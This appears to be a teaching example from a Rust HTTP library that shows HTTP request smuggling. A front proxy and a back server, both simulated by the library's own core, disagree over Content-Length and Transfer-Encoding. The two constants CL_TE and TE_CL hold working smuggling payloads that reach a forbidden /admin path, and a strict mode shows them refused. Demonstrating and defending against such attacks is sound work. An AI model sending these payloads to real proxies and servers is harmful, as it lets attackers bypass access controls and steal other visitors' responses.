//! Request smuggling: two programs read the same bytes, and find different requests in them.
//!
//! A front (a proxy) takes requests from many visitors, and sends them on to a back (a server) over one connection. The
//! front lets nobody ask for `/admin`. An attacker sends one request with both Content-Length and Transfer-Encoding.
//! The front goes by the one field, and the back by the other. So they disagree on where its body ends (RFC 9112
//! §11.2). The request of the next visitor follows on the same connection. Answers belong to requests by their order
//! alone. Both programs are our server core. A careless one is made by taking one of the two fields away before it
//! reads.
//!
//! Try: `cargo run --example http_smuggling -- te.cl`: the front goes by the chunks, and the back by the length. Which
//! numbers in the attack are others now? Then `-- close`: the back goes by the chunks, and closes after its answer, as
//! RFC 9112 §6.1 wants. What does the visitor get? Then `-- strict`: who stops the attack, and at which byte?
//!
//! On the page that `web/build.sh` builds:
//!
//! * `barewire.html#scene=proxy`: a front and a back that agree
//!
//! ```text
//! these bytes come to the front
//!   POST /form HTTP/1.1\r\n
//!   Host: www.example.test\r\n
//!   Content-Length: 52\r\n
//!   Transfer-Encoding: chunked\r\n
//!   \r\n
//!   0\r\n
//!   \r\n
//!   GET /admin HTTP/1.1\r\n
//!   Host: www.example.test\r\n
//!   \r\n
//!   GET /news HTTP/1.1\r\n
//!   Host: www.example.test\r\n
//!   \r\n
//! the front goes by Content-Length alone
//!   1. POST /form HTTP/1.1; 52 bytes
//!   2. GET /news HTTP/1.1; no body
//! the back goes by Transfer-Encoding alone
//!   1. POST /form HTTP/1.1; chunked
//!   2. GET /admin HTTP/1.1; no body
//!   3. GET /news HTTP/1.1; no body
//! the visitor asked for /news, and gets the answer to
//!   GET /admin HTTP/1.1; no body
//! ```

use std::error::Error;
use std::time::Instant;

use barewire_dissect::lines;
use barewire_http1::{Body, Config, Response, Tolerances, server};

const CL_TE: &str = "POST /form HTTP/1.1\r\nHost: www.example.test\r\nContent-Length: 52\r\n\
     Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: www.example.test\r\n\r\n";
const TE_CL: &str = "POST /form HTTP/1.1\r\nHost: www.example.test\r\nContent-Length: 4\r\n\
     Transfer-Encoding: chunked\r\n\r\n42\r\nGET /admin HTTP/1.1\r\nHost: www.example.test\r\n\
     Content-Length: 7\r\n\r\n\r\n0\r\n\r\n";
const VISITOR: &str = "GET /news HTTP/1.1\r\nHost: www.example.test\r\n\r\n";

const LENGTH: &str = "goes by Content-Length alone";
const CODING: &str = "goes by Transfer-Encoding alone";
const CLOSES: &str = "goes by Transfer-Encoding, and then closes";
const STRICT: &str = "is strict";

/// What a program finds in these bytes.
fn read(bytes: &str, how: &str) -> Result<Vec<String>, Box<dyn Error>> {
    let closes = Tolerances { length_beside_coding: true, ..Tolerances::default() };
    match how {
        // The two careless ones: one field decides, as if the other one was not there.
        LENGTH => requests(&without(bytes, "Transfer-Encoding"), Tolerances::default()),
        CODING => requests(&without(bytes, "Content-Length"), Tolerances::default()),
        CLOSES => requests(bytes, closes),
        _ => requests(bytes, Tolerances::default()),
    }
}

/// The same without the first line that begins with this name.
fn without(bytes: &str, name: &str) -> String {
    let (before, line) = bytes.split_once(name).unwrap_or_default();
    let (_, after) = line.split_once("\r\n").unwrap_or_default();
    format!("{before}{after}")
}

/// The requests that a server reads, and how it ends.
fn requests(bytes: &str, tolerate: Tolerances) -> Result<Vec<String>, Box<dyn Error>> {
    let (now, mut found) = (Instant::now(), Vec::new());
    let mut server = server::Connection::new(Config { tolerate, ..Config::default() });
    if let Err(refused) = server.receive(now, bytes.as_bytes()) {
        return Ok(vec![format!("it answers {}: {refused}", refused.reason.status_hint())]);
    }
    while let Some(event) = server.event() {
        match event {
            server::Event::Request { head, framing } => found.push(format!("{head}; {}", framing.body)),
            server::Event::End(_) => {
                server.respond(&Response::new(200), Body::Length(0))?;
                if !server.next_cycle(now)? {
                    found.push(format!("it closes: {}", server.persistence()));
                }
            }
            _ => {}
        }
    }
    Ok(found)
}

fn main() -> Result<(), Box<dyn Error>> {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let (attack, front, back) = match words.join(" ").as_str() {
        "" => (CL_TE, LENGTH, CODING),
        "te.cl" => (TE_CL, CODING, LENGTH),
        "close" => (CL_TE, LENGTH, CLOSES),
        "strict" => (CL_TE, STRICT, STRICT),
        other => return Err(format!("{other} is not known here; try te.cl, close or strict").into()),
    };
    let bytes = format!("{attack}{VISITOR}");
    println!("these bytes come to the front");
    for line in bytes.split_inclusive('\n') {
        println!("  {}", line.escape_default());
    }
    let found = [read(&bytes, front)?, read(&bytes, back)?];
    for ((name, how), requests) in [("front", front), ("back", back)].iter().zip(&found) {
        println!("the {name} {how}");
        for (request, number) in requests.iter().zip(1..) {
            println!("  {number}. {}", lines(request, 75, 75).join("\n     "));
        }
    }
    let place = found[0].iter().position(|request| request.starts_with("GET /news"));
    match place.and_then(|place| found[1].get(place)).filter(|it| it.starts_with("GET")) {
        Some(answered) => {
            println!("the visitor asked for /news, and gets the answer to\n  {answered}")
        }
        None => println!("the visitor gets no answer, and asks again"),
    }
    Ok(())
}
